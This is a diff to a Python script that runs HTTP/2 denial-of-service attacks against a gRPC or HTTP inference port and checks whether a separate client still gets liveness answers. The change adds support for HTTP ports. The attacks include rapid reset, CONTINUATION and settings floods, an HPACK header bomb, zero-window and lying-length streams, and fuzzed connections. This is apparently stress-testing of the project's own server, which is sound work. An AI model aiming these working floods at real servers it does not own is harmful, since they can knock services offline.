@@ -1,9 +1,10 @@
-"""Attack a gRPC port with HTTP/2 that no client speaks, and check that other clients are served meanwhile.
+"""Attack a port with HTTP/2 that no client speaks, and check that other clients are served meanwhile.
 
     python -m scripts.http2_attacks 127.0.0.1:8001 --seeds 8000
+    python -m scripts.http2_attacks 127.0.0.1:8000 --http
 
-Each attack has connections of its own. Before, during and after all of them another client asks ServerLive; the
-slowest of its answers is reported. The exit status is 1 if one of them failed.
+Each attack has connections of its own. Before, during and after all of them another client asks whether the server is
+live; the slowest of its answers is reported. The exit status is 1 if one of them failed.
 """
 from __future__ import annotations
 
@@ -16,7 +17,10 @@ import threading
 import time
 from collections import Counter
 from collections.abc import Callable, Iterator
-from contextlib import closing, suppress
+from contextlib import closing, contextmanager, suppress
+from dataclasses import dataclass
+from functools import partial
+from http.client import HTTPConnection, HTTPException
 
 import grpc
 
@@ -24,8 +28,20 @@ import protos
 from protos.grpc_framing import prefix_of
 from protos.http2 import NGH2Error, client_connection
 
-LIVE = f"/{protos.INFERENCE_SERVICE}/ServerLive"
-INFER = f"/{protos.INFERENCE_SERVICE}/ModelInfer"
+
+@dataclass(frozen=True)
+class Port:
+    """A kind of port: what is asked there, and in what form."""
+    live: str
+    infer: str
+    fields: tuple[tuple[str, str], ...]     # headers of a request
+    live_method: str = "POST"
+
+
+_SERVICE = f"/{protos.INFERENCE_SERVICE}"
+GRPC = Port(f"{_SERVICE}/ServerLive", f"{_SERVICE}/ModelInfer", (
+    ("te", "trailers"), ("content-type", "application/grpc")))
+HTTP = Port("/v2/health/live", "/v2/models/m/infer", (("content-type", "application/json"),), "GET")
 _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 _DATA, _HEADERS, _PRIORITY, _RST, _SETTINGS, _PING, _GOAWAY, _WINDOW, _CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
 _END_STREAM, _END_HEADERS = 1, 4
@@ -52,83 +68,97 @@ def _length(number: int) -> bytes:
     return bytes(encoded)
 
 
-def request_block(path: str = INFER, *more: tuple[str, str]) -> bytes:
-    fields = ((":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x"), ("te", "trailers"),
-              ("content-type", "application/grpc"), *more)
-    return b"".join(literal(*each) for each in fields)
+def fields_of(port: Port, path: str) -> tuple[tuple[str, str], ...]:
+    return ((":method", port.live_method if path == port.live else "POST"), (":scheme", "http"), (":path", path),
+            (":authority", "x"), *port.fields)
+
+
+def request_block(port: Port, path: str = "") -> bytes:
+    """The headers of an inference, or of a request for another path."""
+    return b"".join(literal(*each) for each in fields_of(port, path or port.infer))
 
 
 Pieces = Iterator[bytes]
+Attack = Callable[[Port], Pieces]
 
 
-def rapid_reset() -> Pieces:
-    block = request_block()
+def rapid_reset(port: Port) -> Pieces:
+    block = request_block(port)
     for first in range(1, 100_000, 200):
         yield b"".join(frame(_HEADERS, _END_HEADERS, stream, block) + frame(_RST, 0, stream, bytes(4))
                        for stream in range(first, first + 200, 2))
 
 
-def continuation_flood() -> Pieces:
-    yield frame(_HEADERS, 0, 1, request_block())
+def continuation_flood(port: Port) -> Pieces:
+    yield frame(_HEADERS, 0, 1, request_block(port))
     for _ in range(2000):
         yield frame(_CONTINUATION, 0, 1, literal("a", "b" * 1000))
 
 
-def settings_flood() -> Pieces:
+def settings_flood(port: Port) -> Pieces:
     for _ in range(200):
         yield frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 500
 
 
-def ping_flood() -> Pieces:
+def ping_flood(port: Port) -> Pieces:
     for _ in range(200):
         yield frame(_PING, 0, 0, bytes(8)) * 500
 
 
-def priority_storm() -> Pieces:
+def priority_storm(port: Port) -> Pieces:
     for _ in range(200):
         yield b"".join(frame(_PRIORITY, 0, stream, struct.pack(">IB", 0, 9)) for stream in range(1, 1001, 2))
 
 
-def header_bomb() -> Pieces:
+def header_bomb(port: Port) -> Pieces:
     """An entry of 4000 bytes in HPACK's table, and 16,000 references to it in one block (64 MB)."""
     entry = b"\x40" + _length(1) + b"a" + _length(4000) + b"b" * 4000
     for stream in range(1, 21, 2):
-        yield frame(_HEADERS, _END_HEADERS | _END_STREAM, stream, request_block() + entry + b"\xbe" * 10_000)
+        yield frame(_HEADERS, _END_HEADERS | _END_STREAM, stream, request_block(port) + entry + b"\xbe" * 10_000)
 
 
-def many_streams() -> Pieces:
-    block = request_block()
+def many_streams(port: Port) -> Pieces:
+    block = request_block(port)
     for first in range(1, 40_000, 1000):
         yield b"".join(frame(_HEADERS, _END_HEADERS, stream, block) for stream in range(first, first + 1000, 2))
 
 
-def zero_windows() -> Pieces:
+def zero_windows(port: Port) -> Pieces:
     """Calls whose answers may never be sent."""
     yield frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
-    block = request_block(LIVE)
+    block = request_block(port, port.live)
     for first in range(1, 10_000, 1000):
         yield b"".join(frame(_HEADERS, _END_HEADERS, stream, block) + frame(_DATA, _END_STREAM, stream, prefix_of(0))
                        for stream in range(first, first + 1000, 2))
 
 
-def window_overflow() -> Pieces:
+def window_overflow(port: Port) -> Pieces:
     yield frame(_WINDOW, 0, 0, struct.pack(">I", (1 << 31) - 1)) * 2
 
 
-def lying_lengths() -> Pieces:
-    block = request_block()
+def lying_lengths(port: Port) -> Pieces:
+    """Messages that announce 4 GB."""
+    block = request_block(port) + (literal("content-length", "4294967295") if port is HTTP else b"")
     for stream in range(1, 2001, 2):
         yield frame(_HEADERS, _END_HEADERS, stream, block) + frame(_DATA, 0, stream, prefix_of(0xFFFFFFFF) + bytes(999))
 
 
-def goaways() -> Pieces:
+def goaways(port: Port) -> Pieces:
     for _ in range(100):
-        yield frame(_GOAWAY, 0, 0, struct.pack(">II", 0, 0)) + frame(_HEADERS, _END_HEADERS, 1, request_block())
+        yield frame(_GOAWAY, 0, 0, struct.pack(">II", 0, 0)) + frame(_HEADERS, _END_HEADERS, 1, request_block(port))
 
 
-ATTACKS: tuple[Callable[[], Pieces], ...] = (
+def slow_bodies(port: Port) -> Pieces:
+    """Requests of which a byte comes now and then."""
+    streams = range(1, 401, 2)
+    yield b"".join(frame(_HEADERS, _END_HEADERS, stream, request_block(port)) for stream in streams)
+    for _ in range(20):
+        yield b"".join(frame(_DATA, 0, stream, b"{") for stream in streams)
+
+
+ATTACKS: tuple[Attack, ...] = (
     rapid_reset, continuation_flood, settings_flood, ping_flood, priority_storm, header_bomb, many_streams,
-    zero_windows, window_overflow, lying_lengths, goaways)
+    zero_windows, window_overflow, lying_lengths, slow_bodies, goaways)
 
 
 def attack(address: tuple[str, int], pieces: Pieces, linger_secs: float = 3.0) -> str:
@@ -152,16 +182,14 @@ def attack(address: tuple[str, int], pieces: Pieces, linger_secs: float = 3.0) -
         return "closed"
 
 
-def exchange(message: bytes) -> bytes:
-    """The bytes of a connection with three calls."""
+def exchange(port: Port, message: bytes) -> bytes:
+    """The bytes of a connection with three requests."""
     client = client_connection(1 << 20)
     sent = client.data_to_send()
-    for path in (LIVE, INFER, LIVE):
-        stream = client.send_request([(b":method", b"POST"), (b":scheme", b"http"), (b":path", path.encode()),
-                                      (b":authority", b"x"), (b"te", b"trailers"),
-                                      (b"content-type", b"application/grpc")])
+    for path in (port.live, port.infer, port.live):
+        stream = client.send_request([(name.encode(), value.encode()) for name, value in fields_of(port, path)])
         with suppress(NGH2Error):
-            client.send_data(stream, prefix_of(len(message)) + message, end_stream=True)
+            client.send_data(stream, message if port is HTTP else prefix_of(len(message)) + message, end_stream=True)
         sent += client.data_to_send()
     return sent
 
@@ -181,45 +209,61 @@ def mutated(data: bytes, rng: random.Random) -> bytes:
 
 
 class Watcher(threading.Thread):
-    """A client that asks ServerLive all the time."""
+    """A client that asks all the time whether the server is live."""
 
-    def __init__(self, address: str) -> None:
+    def __init__(self, port: Port, address: str) -> None:
         super().__init__(daemon=True)
-        self._address, self._stop_asking = address, threading.Event()
+        self._port, self._address, self._stop_asking = port, address, threading.Event()
         self.answered, self.slowest_secs, self.failure = 0, 0.0, ""
 
     def run(self) -> None:
-        with grpc.insecure_channel(self._address) as channel:
-            live = channel.unary_unary(LIVE)
+        with self._asking() as ask:
             while not self._stop_asking.is_set():
                 began = time.monotonic()
                 try:
-                    live(b"", timeout=_SECS)
-                except grpc.RpcError as error:
-                    self.failure = str(error.code())
+                    ask()
+                except (grpc.RpcError, OSError, HTTPException) as error:
+                    self.failure = repr(error)
                     return
                 self.answered += 1
                 self.slowest_secs = max(self.slowest_secs, time.monotonic() - began)
                 self._stop_asking.wait(0.01)
+
+    @contextmanager
+    def _asking(self) -> Iterator[Callable[[], object]]:
+        if self._port is GRPC:
+            with grpc.insecure_channel(self._address) as channel:
+                yield partial(channel.unary_unary(self._port.live), b"", timeout=_SECS)
+            return
+
+        def ask() -> None:
+            connection.request("GET", self._port.live)
+            with connection.getresponse() as response:
+                if response.status != 200:
+                    raise HTTPException(f"status {response.status}")
+                response.read()
+
+        with closing(HTTPConnection(self._address, timeout=_SECS)) as connection:
+            yield ask
 
     def stop(self) -> None:
         self._stop_asking.set()
         self.join(2 * _SECS)
 
 
-def run(address: str, seeds: int, first_seed: int = 0, attacks: tuple[Callable[[], Pieces], ...] = ATTACKS
+def run(address: str, seeds: int, first_seed: int = 0, attacks: tuple[Attack, ...] = ATTACKS, port: Port = GRPC
         ) -> tuple[Counter[str], Watcher]:
     """Run all attacks, and `seeds` connections whose bytes are mutated. Returns how these ended, and the watcher."""
-    host, _, port = address.rpartition(":")
-    where = host, int(port)
-    watcher, seen = Watcher(address), Counter[str]()
+    host, _, number = address.rpartition(":")
+    where = host, int(number)
+    watcher, seen = Watcher(port, address), Counter[str]()
     watcher.start()
     for pieces in attacks:
-        seen[f"{pieces.__name__}: {attack(where, pieces())}"] += 1
+        seen[f"{pieces.__name__}: {attack(where, pieces(port))}"] += 1
     message = b"\x0a\x01m"
     for seed in range(first_seed, first_seed + seeds):
         rng = random.Random(seed)
-        data = mutated(exchange(message), rng)
+        data = mutated(exchange(port, message), rng)
         with closing(socket.create_connection(where, timeout=_SECS)) as connection, suppress(OSError):
             while data:
                 size = rng.choice((1, 9, 100, len(data)))
@@ -238,10 +282,11 @@ def main() -> int:
     parser = argparse.ArgumentParser("scripts.http2_attacks", description=__doc__,
                                      formatter_class=argparse.RawDescriptionHelpFormatter)
     parser.add_argument("address", metavar="HOST:PORT")
+    parser.add_argument("--http", action="store_true", help="it is an HTTP port")
     parser.add_argument("--seeds", type=int, default=8000)
     parser.add_argument("--seed", type=int, default=0, help="the first one")
     options = parser.parse_args()
-    seen, watcher = run(options.address, options.seeds, options.seed)
+    seen, watcher = run(options.address, options.seeds, options.seed, port=HTTP if options.http else GRPC)
     for what, count in sorted(seen.items()):
         print(f"{count:6} {what}")
     print(f"{watcher.answered} answers to another client meanwhile, the slowest after {watcher.slowest_secs:.3f} s")
